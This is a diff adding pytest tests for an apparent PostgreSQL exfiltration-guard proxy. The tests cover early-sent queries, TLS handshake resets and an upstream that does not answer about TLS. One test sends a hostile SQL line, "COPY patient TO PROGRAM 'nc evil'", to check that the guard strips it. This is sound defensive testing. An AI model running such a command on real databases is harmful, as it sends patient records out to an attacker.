@@ -1,0 +1,135 @@
+"""Clients on their way in: what they send too early is looked at, and what was opened for them is closed whatever they do."""
+
+from __future__ import annotations
+
+import asyncio
+import socket
+import struct
+from collections.abc import Awaitable, Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import uvloop
+
+from exfilguard.config.schema import Config, KafkaConfig, ListenerConfig
+from exfilguard.embedded.child import free_port
+from exfilguard.sidecar import relay
+from exfilguard.sidecar._pump import PumpLoop
+from exfilguard.sidecar.worker import Guard, Worker
+from tests.config.test_certificates import made
+
+SSL_REQUEST = struct.pack("!II", 8, 80877103)
+READY = b"R" + struct.pack("!II", 8, 0) + b"Z" + struct.pack("!I", 5) + b"I"
+LOOPS = pytest.mark.parametrize("loop", [PumpLoop, uvloop.new_event_loop])
+
+Database = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
+
+
+def message(kind: bytes, body: bytes) -> bytes:
+    return kind + struct.pack("!I", len(body) + 4) + body
+
+
+STARTUP = message(b"", struct.pack("!I", 196608) + b"user\0app\0\0")
+
+
+def before(
+    database: Database, data_dir: Path, play: Callable[[Guard], Awaitable[None]], loop: Any = PumpLoop, **changes: Any
+) -> None:
+    """Run `play` beside a guard in front of `database`."""
+
+    async def main() -> None:
+        server = await asyncio.start_server(database, "127.0.0.1", 0)
+        upstream = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
+        listener = ListenerConfig(
+            name="dpi", engine="postgres", listen=f"127.0.0.1:{free_port()}", upstream=upstream, **changes
+        )
+        config = Config(
+            tenant="clinic", data_dir=str(data_dir), kafka=KafkaConfig(bootstrap="127.0.0.1:9"), listener=[listener]
+        )
+        worker = Worker(config, 0)
+        guard = worker.guards["dpi"]
+        await worker._listen(guard)
+        worker._set_screens()
+        async with asyncio.timeout(30):
+            await play(guard)
+
+    with asyncio.Runner(loop_factory=loop) as runner:
+        runner.run(main())
+
+
+def port_of(guard: Guard) -> int:
+    return int(guard.listener.listen.rpartition(":")[2])
+
+
+async def until(true: Callable[[], bool]) -> None:
+    while not true():
+        await asyncio.sleep(0.01)
+
+
+async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    while await reader.read(4096):
+        pass
+
+
+@LOOPS
+def test_a_statement_behind_the_startup_message_is_looked_at(tmp_path: Path, loop: Any) -> None:
+    """Where no password is asked for, both may come in one piece."""
+    heard = bytearray()
+
+    async def trusting(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        while data := await reader.read(4096):
+            if not heard:
+                writer.write(READY)
+            heard.extend(data)
+
+    async def play(guard: Guard) -> None:
+        reader, writer = await asyncio.open_connection("127.0.0.1", port_of(guard))
+        writer.write(STARTUP + message(b"Q", b"COPY patient TO PROGRAM 'nc evil'\0"))
+        await until(lambda: b"Q" in heard[len(STARTUP) :])
+        assert heard.startswith(STARTUP)
+        assert b"PROGRAM" not in heard
+        writer.close()
+
+    before(trusting, tmp_path, play, loop, deny=["server_export"])
+
+
+@LOOPS
+def test_who_resets_during_the_tls_handshake_is_no_longer_counted(tmp_path: Path, loop: Any) -> None:
+    """Else each one took a client's place for as long as the relay lives."""
+    cert, key = made(tmp_path, "guard")
+
+    def reset(port: int) -> None:
+        with socket.create_connection(("127.0.0.1", port)) as link:
+            link.sendall(SSL_REQUEST)
+            assert link.recv(1) == b"S"
+            link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+
+    async def play(guard: Guard) -> None:
+        for _ in range(3):
+            await asyncio.to_thread(reset, port_of(guard))
+        await until(lambda: guard.counters.tls_failures == 3)
+        await until(lambda: guard.clients == 0)
+        assert guard.lingering == 0
+
+    before(silent, tmp_path / "data", play, loop, tls="terminate", tls_cert=str(cert), tls_key=str(key))
+
+
+@LOOPS
+def test_a_database_that_does_not_answer_about_tls_is_left(
+    tmp_path: Path, loop: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(relay, "CONNECT_TIMEOUT_S", 0.2)
+    left = asyncio.Event()
+
+    async def hung(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        await silent(reader, writer)
+        left.set()
+
+    async def play(guard: Guard) -> None:
+        reader, writer = await asyncio.open_connection("127.0.0.1", port_of(guard))
+        writer.write(STARTUP)
+        assert b"cannot reach the database" in await reader.read()
+        await left.wait()
+
+    before(hung, tmp_path, play, loop, upstream_tls="require")
